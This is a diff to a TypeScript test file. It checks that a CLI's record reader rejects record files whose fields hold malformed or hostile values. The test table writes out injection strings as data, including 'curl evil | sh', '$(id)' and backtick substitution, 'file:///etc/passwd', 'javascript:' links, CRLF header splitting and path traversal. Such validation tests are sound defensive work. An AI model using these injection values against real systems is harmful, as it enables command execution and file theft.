@@ -4,7 +4,7 @@ import { expect, test } from "@jest/globals";
 import { readRecord } from "../../../cli/files/read-record.ts";
 import { withFolder } from "../../helpers/cli-process.ts";
 import { aRecord } from "../../reports/producers.ts";
-import { ALL_RECORDS } from "../../reports/records.ts";
+import { ALL_RECORDS, failing } from "../../reports/records.ts";
 
 const reading = (text: string, use: (read: () => unknown) => void) =>
   withFolder((folder) => {
@@ -13,7 +13,13 @@ const reading = (text: string, use: (read: () => unknown) => void) =>
     return Promise.resolve(use(() => readRecord(file)));
   });
 
-test.each(Object.entries(ALL_RECORDS))("%s is read as it was written", (_name, record) =>
+/** Its places of form have hostile texts as well, which no run writes. */
+const { hostile, ...WRITTEN } = ALL_RECORDS;
+
+test("texts of any sort in places of form are refused", () =>
+  reading(JSON.stringify(hostile), (read) => expect(read).toThrow(/must match pattern/)));
+
+test.each(Object.entries(WRITTEN))("%s is read as it was written", (_name, record) =>
   reading(JSON.stringify(record), (read) => expect(read()).toEqual(JSON.parse(JSON.stringify(record)))),
 );
 
@@ -44,4 +50,57 @@ test.each<[string, string, RegExp]>([
   ["of events that are none", `${JSON.stringify(STARTED)}\n`, /its event "started" is not as this version writes it/],
 ])("a record %s is told of in one line, with what to do", (_what, text, message) =>
   reading(text, (read) => expect(read).toThrow(message)),
+);
+
+/** The same record with another value at a place. */
+function withAt(path: readonly (string | number)[], value: unknown): string {
+  const copy = structuredClone(failing) as unknown as Record<string | number, unknown>;
+  const holder = path.slice(0, -1).reduce((at, step) => at[step] as Record<string | number, unknown>, copy);
+  holder[path.at(-1) ?? ""] = value;
+  return JSON.stringify(copy);
+}
+
+const at = failing.requirements.findIndex(({ cases }) => cases.length > 0);
+const CASE = ["requirements", at, "cases", 0];
+const EXCHANGE = [...CASE, "exchanges", 0];
+
+test.each<[string, readonly (string | number)[], unknown]>([
+  ["the tool's version", ["tool", "version"], "1\ncurl evil | sh"],
+  ["the tool's name", ["tool", "name"], "##vso[x]"],
+  ["the run's id", ["run", "id"], "$(id)"],
+  ["a time", ["run", "startedAt"], "2026-99-01T00:00:00Z"],
+  ["the number of shards", ["run", "shard"], { index: 1, of: 1e15 }],
+  ["the endpoint", ["target", "endpoint"], "-K."],
+  ["an endpoint of two lines", ["target", "endpoint"], "http://a\nb"],
+  ["an endpoint with a quote", ["target", "endpoint"], 'http://a"b'],
+  ["the kind", ["target", "kind"], "$(id)"],
+  ["the Region", ["target", "region"], "$(id)"],
+  ["the account", ["target", "account"], "`id`"],
+  ["the signing name", ["contract", "signingName"], "$(id)"],
+  ["a requirement", ["requirements", at, "id"], "../../a b"],
+  ["an operation", ["requirements", at, "operation"], "a\nb"],
+  ["a link", ["requirements", at, "trace", "url"], "javascript:alert(1)"],
+  ["a day", ["requirements", at, "trace", "date"], "today"],
+  ["a case", [...CASE, "id"], "a b"],
+  ["a method", [...EXCHANGE, "request", "method"], "GET\nx"],
+  ["an address", [...EXCHANGE, "request", "url"], "file:///etc/passwd"],
+  ["a path", [...EXCHANGE, "request", "path"], "/a b"],
+  ["a header's name", [...EXCHANGE, "request", "headers", 0, 0], "a\r\nb"],
+  ["a header's value", [...EXCHANGE, "request", "headers", 0, 1], "a\r\nb: c"],
+  ["a failure", [...EXCHANGE, "failure"], { kind: "reset\ntouch /tmp/a", message: "m" }],
+  ["a signature", [...EXCHANGE, "signing"], { kind: "$(id)" }],
+  ["a service signed for", [...EXCHANGE, "signing"], { kind: "wrong-service", service: "$(id)" }],
+  ["a caller", [...EXCHANGE, "signing"], { kind: "other-caller", caller: "root" }],
+  ["a time that is none", [...EXCHANGE, "startedAt"], 1e300],
+  ["an operation's id", ["operations", 0, "id"], "$(id)"],
+  [
+    "an expected failure's link",
+    ["requirements", at, "expectedFailure"],
+    { pattern: "*", reason: "r", link: "javascript:a" },
+  ],
+])("a record whose %s is not of its form is refused with the place", (_what, path, value) =>
+  reading(withAt(path, value), (read) => {
+    const place = `/${path.slice(0, 2).join("/")}`;
+    expect(read).toThrow(new RegExp(`^record .*run\\.json: ${place}.*: not as this version writes it; run again$`));
+  }),
 );
